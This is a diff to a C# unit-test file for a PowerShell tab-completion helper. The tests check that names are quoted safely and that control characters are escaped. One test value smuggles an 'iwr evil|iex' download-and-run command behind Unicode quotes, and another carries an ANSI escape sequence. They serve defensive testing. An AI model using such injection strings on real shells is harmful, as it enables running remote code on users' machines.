@@ -1,3 +1,4 @@
+using System.Management.Automation;
 using System.Text.RegularExpressions;
 using Xunit;
 
@@ -23,8 +24,20 @@ public sealed class CompletionTests
     [InlineData("pplx-svc", "pplx-svc")]
     [InlineData("pplx it's odd", "'pplx it''s odd'")]
     [InlineData("svc[1]", "'svc[1]'")]
+    [InlineData("-Force", "'-Force'")]
+    [InlineData("x\u2019; iwr evil|iex; \u2019", "'x\u2019\u2019; iwr evil|iex; \u2019\u2019'")]
+    [InlineData("caf\u00e9", "'caf\u00e9'")]
     public void Result_QuotesNamesPowerShellWouldNotReadAsOneWord(string name, string typed)
     {
         Assert.Equal(typed, CompletionText.Result(name).CompletionText);
+    }
+
+    [Fact]
+    public void Result_ShowsANameWithControlCharactersEscaped_InTheList()
+    {
+        CompletionResult result = CompletionText.Result("svc\u001b[31mred");
+
+        Assert.DoesNotContain('\u001b', result.ListItemText);
+        Assert.DoesNotContain('\u001b', result.ToolTip);
     }
 }
